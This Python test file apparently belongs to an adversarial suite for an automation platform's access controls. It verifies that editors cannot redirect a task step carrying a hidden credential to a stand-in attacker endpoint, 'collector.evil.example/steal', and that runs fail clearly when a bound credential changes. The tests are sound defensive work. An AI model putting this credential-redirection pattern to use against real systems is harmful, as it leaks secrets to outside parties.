"""Steps reference only what their editor may see, and a run never silently uses something else (finding 7)."""

from __future__ import annotations

import pytest

from access.services.custom_roles import create_role
from access.services.grants import grant_role
from resources import services
from resources.models import Run, Task
from tests.adversarial.conftest import token_client
from tests.factories import UserFactory, add_to_tenant

PROD_URL = "https://api.partner.example/orders"
EVIL_URL = "https://collector.evil.example/steal"


@pytest.fixture
def prod(world):
    """A credential of the root, seen by Integrators and Admins, and a task of Marketing that uses it."""
    credential = services.create_credential(
        actor=world.tenant_admin, org=world.root, name="Prod API", kind="api_key", secret={"key": "s3cr3t"}
    )
    task = services.create_task(
        actor=world.tenant_admin, project=world.website, name="Orders",
        steps=[{"type": "http", "method": "GET", "url": PROD_URL, "credential": "Prod API"}],
    )  # fmt: skip
    return credential, task


@pytest.fixture
def editor_by_share(world, prod):
    """Ed may edit the task through a share, and holds no role that shows credentials."""
    _, task = prod
    ed = UserFactory(username="ed")
    add_to_tenant(ed, world.acme)
    services.share_task(actor=world.tenant_admin, task=task, permission="edit", user=ed)
    return ed


def test_an_editor_cannot_point_a_step_that_uses_a_hidden_credential_at_their_server(world, prod, editor_by_share):
    _, task = prod
    api, _ = token_client(editor_by_share)
    steps = [{"type": "http", "method": "GET", "url": EVIL_URL, "credential": "Prod API"}]

    response = api.patch(f"/api/v1/tasks/{task.pk}", {"steps": steps}, format="json")

    assert response.status_code == 400 and "Step 1" in response.json()["steps"][0]
    assert Task.objects.get(pk=task.pk).steps[0]["url"] == PROD_URL


def test_naming_a_credential_the_editor_cannot_see_or_that_does_not_exist_reads_the_same(world, prod):
    builder = create_role(
        actor=world.tenant_admin, org=world.root, name="Builder",
        capabilities=["org.view", "project.view", "task.view", "task.create"],
    )  # fmt: skip
    bea = UserFactory(username="bea")  # builds tasks in Marketing, sees no credential
    add_to_tenant(bea, world.acme)
    grant_role(actor=world.tenant_admin, target=world.marketing, role=builder, user=bea)
    api = token_client(bea)[0]
    answers = []
    for name in ("Prod API", "No such thing"):
        steps = [{"type": "http", "method": "GET", "url": EVIL_URL, "credential": name}]
        response = api.post(f"/api/v1/projects/{world.website.pk}/tasks", {"name": "x", "steps": steps}, format="json")
        assert response.status_code == 400
        answers.append(response.json()["steps"][0].replace(name, "NAME"))
    assert answers[0] == answers[1] == "Step 1: no credential named “NAME” is available to you in Marketing."
    assert not Task.objects.filter(name="x").exists()


def test_a_project_only_developer_cannot_name_the_orgs_credentials(world, prod):
    paula = UserFactory(username="paula")
    add_to_tenant(paula, world.acme)
    grant_role(actor=world.tenant_admin, target=world.website, role="integrator", user=paula)
    steps = [{"type": "http", "method": "GET", "url": EVIL_URL, "credential": "Prod API"}]
    response = token_client(paula)[0].post(
        f"/api/v1/projects/{world.website.pk}/tasks", {"name": "Mine", "steps": steps}, format="json"
    )
    assert response.status_code == 400 and not Task.objects.filter(name="Mine").exists()


def test_lookup_tables_are_checked_the_same_way(world, people):
    services.create_lookup_table(actor=world.tenant_admin, org=world.logistics, name="Rates")
    steps = [{"type": "lookup", "table": "Rates", "key": "a"}]  # declared in Logistics: not effective in Marketing
    response = token_client(people["integrator"])[0].post(
        f"/api/v1/projects/{world.website.pk}/tasks", {"name": "Rates", "steps": steps}, format="json"
    )
    assert response.status_code == 400 and "lookup table" in response.json()["steps"][0]


def test_an_integrator_names_what_they_see_and_the_task_is_bound_to_it(world, prod, people):
    credential, _ = prod
    steps = [{"type": "http", "method": "GET", "url": PROD_URL, "credential": "prod api"}]
    response = token_client(people["integrator"])[0].post(
        f"/api/v1/projects/{world.website.pk}/tasks", {"name": "Mine", "steps": steps}, format="json"
    )
    assert response.status_code == 201
    assert Task.objects.get(name="Mine").bindings == {"credential": {"prod api": str(credential.pk)}}


@pytest.mark.parametrize("change", ["hidden", "deleted", "overridden below"])
def test_a_run_fails_clearly_when_the_credential_changed_since_the_task_was_saved(world, prod, people, change):
    credential, task = prod
    if change == "hidden":
        services.hide(actor=world.tenant_admin, org=world.marketing, kind="credential", name="Prod API")
    elif change == "deleted":
        services.delete_credential(actor=world.tenant_admin, credential=credential)
    else:
        services.create_credential(
            actor=world.tenant_admin, org=world.marketing, name="Prod API", kind="api_key", secret={"key": "other"}
        )

    response = token_client(people["integrator"])[0].post(f"/api/v1/tasks/{task.pk}/run")

    run = Run.objects.get(pk=response.json()["id"])
    assert response.status_code == 201 and run.status == "failed" and "Step 1" in run.error
    assert run.log_lines.filter(level="error").exists()


def test_saving_the_task_again_binds_it_to_the_new_credential(world, prod, people):
    _, task = prod
    override = services.create_credential(
        actor=world.tenant_admin, org=world.marketing, name="Prod API", kind="api_key", secret={"key": "other"}
    )
    api = token_client(people["integrator"])[0]
    assert api.patch(f"/api/v1/tasks/{task.pk}", {"steps": task.steps}, format="json").status_code == 200
    assert Task.objects.get(pk=task.pk).bindings["credential"]["prod api"] == str(override.pk)
    assert api.post(f"/api/v1/tasks/{task.pk}/run").json()["status"] == "queued"
